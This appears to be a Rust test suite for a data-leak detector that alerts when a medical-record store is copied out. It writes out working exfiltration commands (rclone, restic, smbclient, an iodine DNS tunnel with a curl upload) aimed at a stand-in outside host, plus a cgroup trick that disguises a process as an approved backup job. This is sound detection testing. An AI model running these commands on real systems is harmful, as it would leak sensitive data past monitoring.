//! Tools that real thefts and real backups use: what they send of a store is told, the same of other files is not.

use std::net::{TcpStream, UdpSocket};
use std::path::Path;
use std::process::{Command, Stdio};

use jaga_tests::agent::Agent;
use jaga_tests::leak::{Leak, nothing_told};
use jaga_tests::net::{HOST_OUTSIDE, OUT};
use jaga_tests::process::{Running, Unit, run};
use jaga_tests::tools::{filled, has_all, rclone_serves, rclone_serves_tls, smbd};
use jaga_tests::wait::until;
use jaga_tests::ways_out::to_out;
use jaga_tests::world::World;

/// A tool, who it sends to, and how it is asked to.
struct Tool {
    /// The unit that it runs in.
    unit: &'static str,
    /// Programs and the packages that have them.
    needed: &'static [(&'static str, &'static str)],
    /// Starts what it sends to.
    serve: fn(&mut World),
    /// Sends the folder `{store}`.
    send: &'static str,
}

/// Without a configuration of its own; a site's own authorities for TLS, if the environment names some, are not asked.
const RCLONE: &str = "unset AWS_CA_BUNDLE; export RCLONE_CONFIG={folder}/rclone/none RCLONE_CACHE_DIR={folder}/rclone; rclone copy -q {store}";

/// 20 MB, so many files that each becomes a transfer of its own.
const FILES: (usize, u64) = (40, 500_000);
/// Of 1000 bytes each, of which 10,000 are a leak.
const RECORD: u64 = 1000;

/// T1567.002.
const RCLONE_WEBDAV: Tool = Tool {
    unit: "jagat-webdav.service",
    needed: &[("rclone", "rclone"), ("openssl", "openssl")],
    serve: rclone_serves_tls,
    send: ":webdav:away --webdav-url https://{out}/ --no-check-certificate",
};

/// T1567.002. The sink takes it as it takes any PUT, and does not know what a bucket is.
const RCLONE_S3: Tool = Tool {
    unit: "jagat-s3.service",
    needed: &[("rclone", "rclone")],
    serve: |_| (),
    send: ":s3:bucket/away --s3-endpoint http://{out} --s3-provider Other --s3-region us-east-1 --s3-access-key-id K \
           --s3-secret-access-key S --s3-no-check-bucket --s3-no-head --s3-no-head-object --no-check-dest --ignore-checksum",
};

/// T1048.002.
const RCLONE_SFTP: Tool = Tool {
    unit: "jagat-sftp.service",
    needed: &[("rclone", "rclone")],
    serve: |world| {
        let key = world.folder().join("logins/host");
        let key = format!("--key={}", key.display());
        rclone_serves(world, "sftp", 2022, &["--user=u", "--pass=p", &key]);
    },
    send: ":sftp:away --sftp-host {out} --sftp-port 2022 --sftp-user u --sftp-pass $(rclone obscure p)",
};

/// A repository that is made before anybody watches.
const RESTIC: Tool = Tool {
    unit: "jagat-restic.service",
    needed: &[("restic", "restic"), ("rclone", "rclone")],
    serve: |world| {
        let received = rclone_serves(world, "restic", 8081, &[]);
        let mut init = Command::new("restic");
        init.env("RESTIC_PASSWORD", "p").args(["init", "-q", "-r"]);
        run(init.arg(received.join("repo")));
    },
    send: "export RESTIC_PASSWORD=p; exec setpriv --reuid=jagat-bob --regid=jagat-bob --clear-groups \
           restic -q --no-cache -r rest:http://{out}:8081/repo/ backup {store}",
};

const SMBCLIENT: Tool = Tool {
    unit: "jagat-smbclient.service",
    needed: &[("smbclient", "smbclient"), ("smbd", "samba")],
    serve: |world| {
        let share = world.path("received");
        let script = smbd(world, &share);
        let mut server = world.net.out.command("sh");
        world.serve_outside(server.args(["-ec", &script]), 445);
    },
    send: "smbclient -s /dev/null -N //{out}/data -c 'lcd {store}; prompt OFF; mput *' >/dev/null 2>&1",
};

impl Tool {
    /// Its script for `store`.
    fn script(&self, world: &World, store: &Path) -> String {
        let rclone = if self.send.starts_with(':') {
            RCLONE
        } else {
            ""
        };
        filled(&format!("{rclone} {}", self.send), world, store)
    }

    /// What it sends of a store is told.
    fn told(&self, name: &str) {
        let Some(mut world) = World::new(name).filter(|_| has_all(self.needed)) else {
            return;
        };
        let store = world.store("ekg", FILES.0, FILES.1);
        (self.serve)(&mut world);
        let mut agent = world.agent_of_records(&store, RECORD, "");
        let script = self.script(&world, &store);
        let sent = world.out_received(|world| world.in_unit(self.unit, &script, 60));
        let session = format!("unit:{}", self.unit);
        to_out(&session).told(&mut agent, sent);
    }
}

#[test]
fn rclone_to_a_cloud_by_webdav() {
    RCLONE_WEBDAV.told("rclone_to_a_cloud_by_webdav");
}

#[test]
fn rclone_to_a_bucket() {
    RCLONE_S3.told("rclone_to_a_bucket");
}

#[test]
fn rclone_to_a_server_by_sftp() {
    RCLONE_SFTP.told("rclone_to_a_server_by_sftp");
}

#[test]
fn restic_to_a_server_that_nobody_wrote_down() {
    RESTIC.told("restic_to_a_server_that_nobody_wrote_down");
}

#[test]
fn smbclient_to_a_share_on_the_internet() {
    SMBCLIENT.told("smbclient_to_a_share_on_the_internet");
}

/// Each tool sends as much of another folder, while the store is there and somebody else reads it.
#[test]
fn the_same_tools_with_other_files_are_quiet() {
    let tools = [RCLONE_WEBDAV, RCLONE_S3, SMBCLIENT];
    let name = "the_same_tools_with_other_files_are_quiet";
    let is_here = |_: &World| tools.iter().all(|tool| has_all(tool.needed));
    let Some(mut world) = World::new(name).filter(is_here) else {
        return;
    };
    let store = world.store("ekg", FILES.0, FILES.1);
    let other = world.store("pictures", FILES.0, FILES.1);
    let mut agent = world.agent_of_records(&store, RECORD, "");
    let scan = format!("sha256sum {}/* >/dev/null", store.display());
    world.in_unit("jagat-scan.service", &scan, 60);
    let sent = world.out_received(|world| {
        for tool in &tools {
            (tool.serve)(world);
            let script = tool.script(world, &other);
            world.in_unit(tool.unit, &script, 60);
        }
    });
    assert!(sent > 60_000_000, "three times 20 MB, not {sent}");
    #[expect(clippy::cast_precision_loss, reason = "60 MB fit a double")]
    let least = sent as f64 * 0.99;
    agent.metric_reaches("jaga_sent_bytes_total", &[("scope", "external")], least);
    agent.metric_reaches("jaga_store_read_bytes_total", &[("store", "ekg")], 19.8e6);
    nothing_told(&mut agent);
}

fn contract(at_most: &str) -> String {
    format!(
        "contracts:\n  - name: nightly\n    who: {{ unit: {}, exe: /usr/bin/restic, user: jagat-bob }}\n    to: {OUT}:8081\n    \
         at-most: {at_most} per 1d\n    owner: it@hospital.example\n    until: 2099-01-01\n",
        RESTIC.unit
    )
}

/// A nightly backup of the store, by a contract that allows `at_most`.
fn backup(name: &str, at_most: &str) -> Option<(World, Agent, u64)> {
    let mut world = World::new(name).filter(|_| has_all(RESTIC.needed))?;
    let store = world.store("ekg", FILES.0, FILES.1);
    (RESTIC.serve)(&mut world);
    let agent = world.agent_of_records(&store, RECORD, &contract(at_most));
    let script = RESTIC.script(&world, &store);
    let sent = world.out_received(|world| world.in_unit(RESTIC.unit, &script, 60));
    Some((world, agent, sent))
}

#[test]
fn restic_under_contract_is_quiet() {
    let Some((_world, mut agent, sent)) = backup("restic_under_contract_is_quiet", "100 MB") else {
        return;
    };
    #[expect(clippy::cast_precision_loss, reason = "20 MB fit a double")]
    let least = sent as f64 * 0.99;
    let booked = agent.metric_reaches(
        "jaga_contract_sent_bytes_total",
        &[("contract", "nightly")],
        least,
    );
    assert!(
        booked < least * 1.02,
        "{sent} arrived, {booked} booked to the contract"
    );
    nothing_told(&mut agent);
}

/// Half of it is expected, the other half is as much as a leak.
#[test]
fn restic_beyond_its_contract_is_told() {
    let Some((_world, mut agent, _)) = backup("restic_beyond_its_contract_is_told", "5 MB") else {
        return;
    };
    let alert = agent.alert("store-data-leaves", "firing", &[]);
    println!("   {}", alert["summary"]);
    to_out("unit:jagat-restic.service").names_it(&alert);
    agent.replay_equals_live();
}

/// Root of another service puts itself into the backup's unit and sends as its user, with its program, to its server: all
/// that the contract names.
#[test]
fn a_process_that_was_put_into_the_backups_unit_by_hand_has_no_contract() {
    let name = "a_process_that_was_put_into_the_backups_unit_by_hand_has_no_contract";
    let Some(mut world) = World::new(name).filter(|_| has_all(RESTIC.needed)) else {
        return;
    };
    let store = world.store("ekg", FILES.0, FILES.1);
    (RESTIC.serve)(&mut world);
    let mut agent = world.agent_of_records(&store, RECORD, &contract("100 MB"));
    let backup = Unit::new(RESTIC.unit);
    let script = format!(
        "echo $$ >{}/cgroup.procs\n{}",
        backup.folder().display(),
        RESTIC.script(&world, &store)
    );
    world.out_received(|world| world.in_unit("jagat-web.service", &script, 60));
    let alert = agent.alert("store-data-leaves", "firing", &[]);
    println!("   {}", alert["summary"]);
    to_out(&backup.session()).names_it(&alert);
    let why = "contract nightly is not for a process whose cgroup or login was changed by hand";
    assert!(alert.to_string().contains(why), "{alert:#}");
    agent.replay_equals_live();
}

/// A share of the store that somebody opened to all, fetched from outside.
#[test]
fn smbd_that_serves_the_store() {
    let name = "smbd_that_serves_the_store";
    let Some(mut world) = World::new(name).filter(|_| has_all(SMBCLIENT.needed)) else {
        return;
    };
    let store = world.store("ekg", FILES.0, FILES.1);
    let mut agent = world.agent_of_records(&store, RECORD, "");
    let script = smbd(&world, &store);
    world.serve_in_unit("jagat-smbd.service", &script);
    until("smbd to listen", 20, || {
        TcpStream::connect("127.0.0.1:445").ok()
    });
    let get = format!(
        "lcd {}; prompt OFF; mget *",
        world.path("received").display()
    );
    let mut client = world.net.out.command("smbclient");
    client.args(["-s", "/dev/null", "-N", &format!("//{HOST_OUTSIDE}/data")]);
    client
        .args(["-c", &get])
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let sent = world.out_received(|_| Running::start(&mut client).done(60));
    to_out("unit:jagat-smbd.service").told(&mut agent, sent);
}

/// T1048.003, T1572. What sends knows an address inside the tunnel, what leaves is names.
#[test]
fn a_file_through_iodine() {
    let needed = [("iodine", "iodine"), ("iodined", "iodine")];
    let Some(mut world) = World::new("a_file_through_iodine").filter(|_| has_all(&needed)) else {
        return;
    };
    let store = world.store("ekg", 1, 200_000);
    let mut agent = world.agent_of_records(&store, 10, "");
    let mut server = world.net.out.command("iodined");
    server.args([
        "-f",
        "-c",
        "-P",
        "p",
        "-l",
        OUT,
        "10.53.0.1/24",
        "t.example.com",
    ]);
    world.keep(Running::start(
        server.stdout(Stdio::null()).stderr(Stdio::null()),
    ));
    until("iodined to listen", 20, || {
        let out = &world.net.out;
        out.inside(|| UdpSocket::bind((OUT, 53)).err())
    });
    let unit = Unit::new("jagat-tunnel.service");
    // Of a kind that is known to pass, so that it tries no others.
    let script = format!(
        "iodine -f -r -T NULL -O raw -m 1000 -P p {OUT} t.example.com >{0}/iodine 2>&1 &
         until grep -q 'Connection setup complete' {0}/iodine; do sleep 0.1; done
         curl -sfT {1}/0000.dcm http://10.53.0.1/; kill $!; wait $! || true",
        world.folder().display(),
        store.display()
    );
    unit.run(&script, 60);
    assert_eq!(world.sink.received(), 200_000);
    let names = agent.alert("dns-tunnel", "firing", &[("domain", "example.com")]);
    println!("   {}", names["summary"]);
    let sent = agent.alert("store-data-leaves", "firing", &[("store", "ekg")]);
    println!("   {}", sent["summary"]);
    let session = unit.session();
    let inside = Leak {
        destination: "10.53.0.1",
        ..to_out(&session)
    };
    inside.names_it(&sent);
    agent.replay_equals_live();
}
